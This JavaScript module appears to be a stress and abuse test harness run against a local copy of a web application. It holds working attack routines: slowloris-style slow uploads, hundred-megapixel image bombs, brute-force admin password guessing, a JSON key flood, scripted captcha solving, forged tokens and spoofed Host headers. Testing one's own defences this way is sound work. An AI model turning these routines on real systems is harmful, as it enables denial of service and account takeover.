import sharp from 'sharp'
import { pause } from '../watched.mjs'
import { solved } from './captcha.mjs'
import { form, headOf, hold, multipartType, postForm, postJson, send } from './send.mjs'

/** Addresses of the attacker's network in turn. */
let turn = 0
const from = () => `127.0.1.${1 + (turn++ % 250)}`

const signIn = () => ({ from: from(), path: '/admin/Index/login' })

/** Sends again and again, so many a second and at most so many at once, for as long as the run lasts. */
async function repeat(run, perSecond, ask, most = 100) {
  let open = 0
  while (!run.isOver()) {
    if (open < most) {
      open += 1
      ask()
        .then(({ status, code }) => run.count(status === 0 ? 'no answer' : `${status}${code === 1 ? ' accepted' : ''}`))
        .finally(() => {
          open -= 1
        })
    }
    await pause(1000 / perSecond)
  }
  while (open > 0) await pause(20)
}

const enquiry = {
  name: '攻击者',
  mobile: '13900001111',
  need: 'quote',
  content: '需要 DN200 三偏心蝶阀 12 台。',
  privacy: '1',
  opened: '8000',
}

const plain = (side, as) =>
  sharp({ create: { width: side, height: side, channels: 3, background: '#888' } })
    [as]()
    .toBuffer()

/** Pictures of few bytes and a hundred megapixels. */
export async function makeBombs() {
  return { gif: await plain(9990, 'gif'), webp: await plain(9990, 'webp') }
}

/** What was done to the first cut, each as a function of `{port, isOver, count, bombs, member}`. */
export const attacks = {
  async 'a thousand forms that trickle, a byte in five seconds'(run) {
    const head = headOf('/admin/Index/login', 'application/json', 2000)
    for (let at = 0; at < 1000; at++) {
      hold(run.port, { ...run, from: from(), head, piece: ' ', everyMs: 5000 })
      if (at % 50 === 0) await pause(50)
    }
    while (!run.isOver()) await pause(100)
  },

  async 'enquiries with four pictures of a hundred megapixels each, one captcha for all'(run) {
    const answer = await solved(run.port, from())
    const files = Array.from({ length: 4 }, (_, at) => ({ name: `${at}.gif`, content: run.bombs.gif }))
    await repeat(run, 10, () =>
      postForm(run.port, { from: from(), path: '/api/lead/submit', body: form({ ...enquiry, ...answer }, files) }),
    )
  },

  async 'a member who uploads pictures of a hundred megapixels'(run) {
    const body = form({}, [{ name: 'a.webp', content: run.bombs.webp }], 'file')
    await repeat(run, 10, () =>
      postForm(run.port, {
        ...{ from: '127.0.1.251', path: '/api/ajax/upload', body },
        headers: { 'ba-user-token': run.member },
      }),
    )
  },

  async 'refused sign-ins with 16 kB each'(run) {
    const long = 'x'.repeat(15_000)
    await repeat(run, 200, () =>
      postJson(run.port, { ...signIn(), body: { username: 'admin', password: 'wrong', keep: long } }),
    )
  },

  async 'eight slow enquiries with files of ten megabytes, no captcha'(run) {
    const start = form(enquiry, []).subarray(0, -'------attack--\r\n'.length)
    const file = form({}, [{ name: 'a.pdf', content: Buffer.from('%PDF-1.7\n') }]).subarray(
      0,
      -'\r\n------attack--\r\n'.length,
    )
    const head = Buffer.concat([Buffer.from(headOf('/api/lead/submit', multipartType, 60_000_000)), start, file])
    const piece = Buffer.alloc(65_536, 'x')
    for (let at = 0; at < 8; at++) hold(run.port, { ...run, from: from(), head, piece, everyMs: 50 })
    while (!run.isOver()) await pause(100)
  },

  async 'passwords guessed for the administrator from one network'(run) {
    await repeat(run, 100, () =>
      postJson(run.port, { ...signIn(), body: { username: 'admin', password: `guess ${turn}` } }),
    )
  },

  async 'a megabyte of JSON keys'(run) {
    const keys = Object.fromEntries(Array.from({ length: 60_000 }, (_, at) => [`key${at}`, at]))
    const body = JSON.stringify(keys)
    await repeat(run, 20, () => postJson(run.port, { from: from(), path: '/api/lead/submit', body }))
  },

  async 'captchas solved by a script, one after the other'(run) {
    const solve = async () => {
      const answer = await solved(run.port, from())
      if (!answer) return { status: 503 }
      run.count(`solved with ${answer.bits} bits`)
      const body = { id: answer.captchaId, info: answer.captchaInfo }
      return postJson(run.port, { from: from(), path: '/api/common/checkClickCaptcha', body })
    }
    await repeat(run, 4, solve, 1)
  },

  async 'sessions renewed with made-up access tokens'(run) {
    const path = '/api/common/refreshToken'
    await repeat(run, 50, () =>
      postJson(run.port, {
        ...{ from: from(), path, body: { refreshToken: run.refresh } },
        headers: { 'ba-user-token': `made-up-${turn}` },
      }),
    )
  },

  async 'pages asked under other host names'(run) {
    await repeat(run, 20, () =>
      send(run.port, { from: from(), path: '/client/home', headers: { host: `evil${turn}.example` } }),
    )
  },
}
